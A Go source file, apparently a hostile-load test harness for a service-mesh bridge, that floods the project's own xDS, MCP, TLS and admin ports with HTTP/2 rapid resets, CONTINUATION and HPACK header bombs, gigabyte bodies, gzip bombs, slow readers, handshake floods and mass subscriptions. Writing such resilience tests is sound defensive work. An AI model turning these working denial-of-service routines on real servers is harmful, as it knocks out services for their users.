package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"time"

	core "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding/gzip"

	mcp "github.com/isthmus-mesh/isthmus/server/mcp/proto/isthmus/mcp/v1"
)

// target is what the attacker's process knows.
type target struct {
	XDS, TLS, MCP, Admin string
	// XDS6 is of IPv6, "" if there is none.
	XDS6 string
	// CA is of the TLS listener; Good, Other and Expired are certificates of
	// clients, as files: the right one, of another authority, and ended.
	Good, Other, Expired pair
	// Scale is 1 for the long form, less for the short one.
	Scale float64
	// From is the address that calls come from.
	From string
	// Burn is how many processors the burner keeps busy.
	Burn float64
}

type pair struct{ Cert, Key string }

// some scales a number, to at least 1.
func (g *target) some(n int) int { return max(1, int(float64(n)*g.Scale)) }

// attack runs until ctx ends. It ignores errors: the bridge is right to refuse.
type attack struct {
	name string
	what string // for the table
	run  func(ctx context.Context, g *target)
}

var attacks = []attack{
	{"streams", "10,000 streams over 100 connections, opened again when they end", func(ctx context.Context, g *target) {
		parallel(100, func(i int) { streams(ctx, g, []string{g.XDS, g.XDS, g.MCP, g.TLS}[i%4], g.some(100)) })
	}},
	{"names", "subscriptions to 1,000,000 names on each of 4 streams", func(ctx context.Context, g *target) {
		parallel(4, func(int) { names(ctx, g, g.XDS, g.some(1_000_000)) })
	}},
	{"large", "requests that announce 1 GB, on 64 streams of each gRPC port, and bodies of 1 GB to the admin port", func(ctx context.Context, g *target) {
		parallel(8, func(i int) {
			switch i {
			case 0, 1:
				body(ctx, g)
			default:
				large(ctx, []string{g.XDS, g.MCP}[i%2], g.some(64), 1<<30)
			}
		})
	}},
	{"unfinished", "requests of 60 MiB that never end, on 16 streams of 8 connections to each gRPC port", func(ctx context.Context, g *target) {
		parallel(g.some(16), func(i int) { unfinished(ctx, []string{g.XDS, g.MCP}[i%2], 16, 60<<20) })
	}},
	{"resets", "streams opened and reset at once (rapid reset), on 8 connections to each gRPC port", func(ctx context.Context, g *target) {
		parallel(16, func(i int) { resets(ctx, []string{g.XDS, g.MCP}[i%2]) })
	}},
	{"slow", "1,000 sinks that ask for everything and read nothing", func(ctx context.Context, g *target) {
		parallel(g.some(1000), func(i int) { slow(ctx, g, i) })
	}},
	{"acks", "acknowledgements without end on 16 streams, of replayed and invented nonces", func(ctx context.Context, g *target) {
		parallel(16, func(i int) { acks(ctx, g, i) })
	}},
	{"handshakes", "TLS handshakes without end on 32 connections: whole, cut off, with certificates of another authority and expired ones, and plaintext", func(ctx context.Context, g *target) {
		parallel(32, func(i int) { handshakes(ctx, g, i) })
	}},
	{"headers", "header bombs: 1 MB of CONTINUATION frames, and a compressed header 10,000 times, on each gRPC port; 100 MB of headers to the admin port", func(ctx context.Context, g *target) {
		parallel(12, func(i int) { headers(ctx, g, i) })
	}},
	{"deaf", "1,000 delta sinks on 4 connections that ask for everything and read nothing", func(ctx context.Context, g *target) {
		parallel(4, func(i int) { deaf(ctx, g, i, g.some(250), askDelta) })
	}},
	{"deaf SotW", "1,000 SotW sinks on 4 connections that ask for everything and read nothing", func(ctx context.Context, g *target) {
		parallel(4, func(i int) { deaf(ctx, g, i, g.some(250), askAll) })
	}},
	{"synced", "400 delta sinks that read and acknowledge a first sync, again and again", func(ctx context.Context, g *target) {
		parallel(g.some(400), func(i int) { synced(ctx, g, i) })
	}},
	{"gzip", "requests of 50 MB of names as 100 kB of gzip, on 16 streams", func(ctx context.Context, g *target) {
		parallel(16, func(i int) { zipped(ctx, g, i) })
	}},
	{"frames", "SETTINGS, PING, WINDOW_UPDATE, empty DATA and unknown frames without end, on 8 connections to each gRPC port", func(ctx context.Context, g *target) {
		parallel(16, func(i int) { frames(ctx, []string{g.XDS, g.MCP}[i%2], i) })
	}},
	{"addresses", "subscriptions to 1,000,000 names from each of 32 addresses", func(ctx context.Context, g *target) {
		parallel(32, func(i int) { names(ctx, g.from(fmt.Sprint("127.0.0.", 10+i)), g.XDS, g.some(1_000_000)) })
	}},
	{"network", "subscriptions to 1,000,000 names from each of 32 addresses of one IPv6 /64", func(ctx context.Context, g *target) {
		parallel(32, func(i int) { names(ctx, g.from(fmt.Sprintf("2001:db8::%x", 1+i)), g.XDS6, g.some(1_000_000)) })
	}},
	{"types", "1,000 invented type URLs of 1 kB on each of 20 streams, opened again when they end", func(ctx context.Context, g *target) {
		parallel(20, func(i int) { types(ctx, g, i) })
	}},
}

// burner is no attack: it takes the processor time that one took.
var burner = attack{"burner", "", func(ctx context.Context, g *target) {
	const turn = 10 * time.Millisecond
	n := runtime.NumCPU()
	busy := time.Duration(g.Burn / float64(n) * float64(turn))
	parallel(n, func(int) {
		for ctx.Err() == nil {
			began := time.Now()
			for time.Since(began) < busy {
			}
			time.Sleep(turn - busy)
		}
	})
}}

// dialer calls from the attacker's address, not the good sinks', which the
// limit of connections per peer does not meet.
var dialer *net.Dialer

func dialerFrom(address string) *net.Dialer {
	return &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(address)}}
}

var attacker = &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, network, address string) (net.Conn, error) {
	return dialer.DialContext(ctx, network, address)
}}}

// parallel calls f for 0 to n-1 and waits.
func parallel(n int, f func(i int)) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() { f(i) })
	}
	wg.Wait()
}

// again calls f until ctx ends, with a pause after what ended at once.
func again(ctx context.Context, f func()) {
	for ctx.Err() == nil {
		began := time.Now()
		f()
		if time.Since(began) > time.Millisecond {
			continue
		}
		select {
		case <-ctx.Done():
		case <-time.After(time.Millisecond):
		}
	}
}

// from returns a target that is called from another address.
func (g *target) from(address string) *target {
	other := *g
	other.From = address
	return &other
}

func (g *target) dial(address string) (*grpc.ClientConn, error) {
	creds := insecure.NewCredentials()
	if address == g.TLS {
		creds = credentials.NewTLS(g.client(g.Good))
	}
	from := dialerFrom(g.From)
	return grpc.NewClient(address, grpc.WithTransportCredentials(creds), grpc.WithContextDialer(func(ctx context.Context, address string) (net.Conn, error) {
		return from.DialContext(ctx, "tcp", address)
	}),
		grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(1<<30)))
}

// client is an attacker's TLS: whose the server is does not matter to him.
func (g *target) client(p pair) *tls.Config {
	c := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}} //nolint:gosec // an attacker
	if cert, err := tls.LoadX509KeyPair(p.Cert, p.Key); err == nil {
		// Whether the server names its authority or not.
		c.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &cert, nil }
	}
	return c
}

const (
	serviceEntry  = "networking.istio.io/v1alpha3/ServiceEntry"
	workloadEntry = "networking.istio.io/v1alpha3/WorkloadEntry"
)

var node = &core.Node{Id: "hostile"}

func streams(ctx context.Context, g *target, address string, n int) {
	again(ctx, func() {
		conn, err := g.dial(address)
		if err != nil {
			return
		}
		defer conn.Close()
		round, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		parallel(n, func(int) {
			stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(round)
			if err != nil || stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: "networking.istio.io/v1alpha3/Sidecar"}) != nil {
				return
			}
			for err == nil {
				_, err = stream.Recv()
			}
		})
	})
}

func names(ctx context.Context, g *target, address string, n int) {
	again(ctx, func() {
		conn, err := g.dial(address)
		if err != nil {
			return
		}
		defer conn.Close()
		stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx)
		if err != nil {
			return
		}
		go func() {
			for {
				if _, err := stream.Recv(); err != nil {
					return
				}
			}
		}()
		const batch = 20_000
		for first := 0; first < n; first += batch {
			req := &discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: serviceEntry}
			for i := range batch {
				req.ResourceNamesSubscribe = append(req.ResourceNamesSubscribe, fmt.Sprintf("ns-%d/%s-%d", i%7, strings.Repeat("x", 60), first+i))
			}
			if stream.Send(req) != nil {
				return
			}
		}
	})
}

// raw is an HTTP/2 connection below gRPC.
type raw struct {
	net.Conn
	*http2.Framer
}

func dialRaw(ctx context.Context, address string) (*raw, error) {
	conn, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { conn.Close() })
	r := &raw{conn, http2.NewFramer(conn, conn)}
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err := errors.Join(err, r.WriteSettings()); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	// Reads what comes, so that the server is not held up by the attacker.
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	return r, nil
}

func block(extra ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "x"},
		{Name: ":path", Value: discovery.AggregatedDiscoveryService_DeltaAggregatedResources_FullMethodName},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}, extra...) {
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

func large(ctx context.Context, address string, n int, size uint32) {
	again(ctx, func() {
		r, err := dialRaw(ctx, address)
		if err != nil {
			return
		}
		defer r.Close()
		prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
		chunk := make([]byte, 16<<10)
		for i := range n {
			id := uint32(2*i + 1)
			if r.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block(), EndHeaders: true}) != nil || r.WriteData(id, false, prefix) != nil {
				return
			}
		}
		for i := 0; ; i++ { // the window of each stream, and beyond
			if r.WriteData(uint32(2*(i%n)+1), false, chunk) != nil {
				return
			}
		}
	})
}

// unfinished sends requests but for their last byte, as fast as the windows of
// the streams permit, and holds them.
func unfinished(ctx context.Context, address string, n int, size uint32) {
	again(ctx, func() {
		conn, err := dialer.DialContext(ctx, "tcp", address)
		if err != nil {
			return
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		defer stop()
		f := http2.NewFramer(conn, conn)
		_, err = io.WriteString(conn, http2.ClientPreface)
		if errors.Join(err, f.WriteSettings()) != nil {
			return
		}
		permitted := make(chan uint32, n)
		go func() {
			defer close(permitted)
			for {
				frame, err := f.ReadFrame()
				if err != nil {
					return
				}
				if u, ok := frame.(*http2.WindowUpdateFrame); ok && u.StreamID != 0 && u.Increment >= size/2 {
					select {
					case permitted <- u.StreamID:
					default:
					}
				}
			}
		}()
		prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
		for i := range n {
			id := uint32(2*i + 1)
			if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block(), EndHeaders: true}) != nil || f.WriteData(id, false, prefix) != nil {
				return
			}
		}
		chunk := make([]byte, 16<<10)
		for id := range permitted {
			for sent := uint32(len(chunk)); sent < size; sent += uint32(len(chunk)) {
				if f.WriteData(id, false, chunk) != nil {
					return
				}
			}
		}
	})
}

func body(ctx context.Context, g *target) {
	again(ctx, func() {
		for _, path := range []string{"/api/v1/reload", "/api/v1/accept", "/", "/metrics"} {
			req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+g.Admin+path, io.LimitReader(zeros{}, 1<<30))
			if err != nil {
				return
			}
			if resp, err := attacker.Do(req); err == nil {
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		}
	})
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	clear(b)
	return len(b), nil
}

func resets(ctx context.Context, address string) {
	again(ctx, func() {
		r, err := dialRaw(ctx, address)
		if err != nil {
			return
		}
		defer r.Close()
		for id := uint32(1); id < 1<<30; id += 2 {
			if r.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block(), EndHeaders: true}) != nil || r.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				return
			}
		}
	})
}

func slow(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		conn, err := g.dial([]string{g.XDS, g.TLS}[i%2])
		if err != nil {
			return
		}
		defer conn.Close()
		if i%4 == 3 {
			stream, err := conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/istio.mcp.v1alpha1.ResourceSource/EstablishResourceStream")
			if err == nil {
				_ = stream.SendMsg(&mcp.RequestResources{SinkNode: &mcp.SinkNode{Id: "hostile"}, Collection: "istio/networking/v1alpha3/serviceentries"})
			}
		} else {
			_, _ = askAll(ctx, conn)
		}
		<-ctx.Done()
	})
}

func acks(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		conn, err := g.dial([]string{g.XDS, g.TLS}[i%2])
		if err != nil {
			return
		}
		defer conn.Close()
		client := discovery.NewAggregatedDiscoveryServiceClient(conn)
		if i%4 == 3 {
			stream, err := conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/istio.mcp.v1alpha1.ResourceSource/EstablishResourceStream")
			for k := 0; err == nil; k++ {
				err = stream.SendMsg(&mcp.RequestResources{
					SinkNode: &mcp.SinkNode{Id: "hostile"}, Collection: "istio/networking/v1alpha3/gateways", ResponseNonce: fmt.Sprint(k % 3),
				})
			}
			return
		}
		stream, err := client.DeltaAggregatedResources(ctx)
		if err != nil || stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: "networking.istio.io/v1alpha3/Gateway"}) != nil {
			return
		}
		first, err := stream.Recv()
		for k := 0; err == nil; k++ {
			nonce := first.GetNonce() // replayed
			if k%2 == 1 {
				nonce = fmt.Sprint("invented-", k)
			}
			err = stream.Send(&discovery.DeltaDiscoveryRequest{TypeUrl: "networking.istio.io/v1alpha3/Gateway", ResponseNonce: nonce})
		}
	})
}

func handshakes(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		conn, err := dialer.DialContext(ctx, "tcp", g.TLS)
		if err != nil {
			return
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
		switch i % 5 {
		case 0: // cut off in the middle of the first message
			_, _ = conn.Write([]byte{22, 3, 1, 2, 0, 1, 0})
		case 1:
			_ = tls.Client(conn, g.client(g.Good)).HandshakeContext(ctx)
		case 2:
			finish(ctx, tls.Client(conn, g.client(g.Other)))
		case 3:
			finish(ctx, tls.Client(conn, g.client(g.Expired)))
		case 4:
			_, _ = io.WriteString(conn, http2.ClientPreface)
			_, _ = conn.Read(make([]byte, 100))
		}
	})
}

// finish waits for the server's opinion of the certificate.
func finish(ctx context.Context, c *tls.Conn) {
	if c.HandshakeContext(ctx) == nil {
		_, _ = c.Read(make([]byte, 1))
	}
}

func headers(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		address := []string{g.XDS, g.MCP, g.Admin}[i%3]
		if address == g.Admin {
			conn, err := dialer.DialContext(ctx, "tcp", address)
			if err != nil {
				return
			}
			defer conn.Close()
			_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: x\r\n")
			line := "X-Bomb: " + strings.Repeat("x", 64<<10) + "\r\n"
			for n := 0; err == nil && n < 100<<20; n += len(line) {
				_, err = io.WriteString(conn, line)
			}
			return
		}
		r, err := dialRaw(ctx, address)
		if err != nil {
			return
		}
		defer r.Close()
		if i%2 == 0 {
			fragment := block(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 8<<10)})
			err = r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fragment})
			for n := 0; err == nil && n < 1<<20; n += len(fragment) {
				err = r.WriteContinuation(1, false, fragment)
			}
			return
		}
		// One entry in the table of the decoder, referred to by a byte each.
		fragment := append(block(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 3<<10)}), bytes.Repeat([]byte{0x80 | 62}, 10_000)...)
		err = r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fragment, EndHeaders: true})
		for k := uint32(3); err == nil && k < 2000; k += 2 {
			err = r.WriteHeaders(http2.HeadersFrameParam{StreamID: k, BlockFragment: bytes.Repeat([]byte{0x80 | 62}, 10_000), EndHeaders: true})
		}
	})
}

// deaf opens streams and reads nothing of them.
func deaf(ctx context.Context, g *target, i, n int, ask func(context.Context, *grpc.ClientConn) (grpc.ClientStream, error)) {
	again(ctx, func() {
		conn, err := g.dial([]string{g.XDS, g.TLS}[i%2])
		if err != nil {
			return
		}
		defer conn.Close()
		parallel(n, func(int) {
			if stream, err := ask(ctx, conn); err == nil {
				<-stream.Context().Done()
			}
		})
	})
}

func askDelta(ctx context.Context, conn *grpc.ClientConn) (grpc.ClientStream, error) {
	stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx)
	if err != nil {
		return nil, err
	}
	return stream, errors.Join(stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: serviceEntry}), stream.Send(&discovery.DeltaDiscoveryRequest{TypeUrl: workloadEntry}))
}

func askAll(ctx context.Context, conn *grpc.ClientConn) (grpc.ClientStream, error) {
	stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).StreamAggregatedResources(ctx)
	if err != nil {
		return nil, err
	}
	return stream, errors.Join(stream.Send(&discovery.DiscoveryRequest{Node: node, TypeUrl: serviceEntry}), stream.Send(&discovery.DiscoveryRequest{TypeUrl: workloadEntry}))
}

// synced reads and acknowledges everything once, and comes back.
func synced(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		conn, err := g.dial([]string{g.XDS, g.TLS}[i%2])
		if err != nil {
			return
		}
		defer conn.Close()
		stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx)
		if err != nil || stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: workloadEntry}) != nil {
			return
		}
		for got := 0; got < 2*services; {
			r, err := stream.Recv()
			if err != nil || stream.Send(&discovery.DeltaDiscoveryRequest{TypeUrl: r.GetTypeUrl(), ResponseNonce: r.GetNonce()}) != nil {
				return
			}
			got += len(r.GetResources())
		}
	})
}

func zipped(ctx context.Context, g *target, i int) {
	req := &discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: serviceEntry}
	for k := range g.some(500_000) {
		req.ResourceNamesSubscribe = append(req.ResourceNamesSubscribe, fmt.Sprintf("%s%06d", strings.Repeat("x", 94), k))
	}
	again(ctx, func() {
		conn, err := g.dial([]string{g.XDS, g.TLS}[i%2])
		if err != nil {
			return
		}
		defer conn.Close()
		stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx, grpc.UseCompressor(gzip.Name))
		if err != nil || stream.Send(req) != nil {
			return
		}
		for err == nil {
			_, err = stream.Recv()
		}
	})
}

// frames sends frames that are no requests.
func frames(ctx context.Context, address string, i int) {
	again(ctx, func() {
		r, err := dialRaw(ctx, address)
		if err != nil {
			return
		}
		defer r.Close()
		if err = r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(), EndHeaders: true}); err != nil {
			return
		}
		for k := i; err == nil; k++ {
			switch k % 5 {
			case 0:
				err = r.WriteSettings()
			case 1:
				err = r.WritePing(false, [8]byte{})
			case 2:
				err = r.WriteWindowUpdate(0, 1)
			case 3:
				err = r.WriteData(1, false, nil)
			case 4:
				err = r.WriteRawFrame(99, 0, 0, nil)
			}
		}
	})
}

func types(ctx context.Context, g *target, i int) {
	again(ctx, func() {
		conn, err := g.dial(g.XDS)
		if err != nil {
			return
		}
		defer conn.Close()
		stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx)
		for k := 0; err == nil && k < 1000; k++ {
			if err = stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: fmt.Sprintf("%s-%d-%d-%d", strings.Repeat("x", 950), i, k, time.Now().UnixNano())}); err == nil {
				_, err = stream.Recv()
			}
		}
	})
}
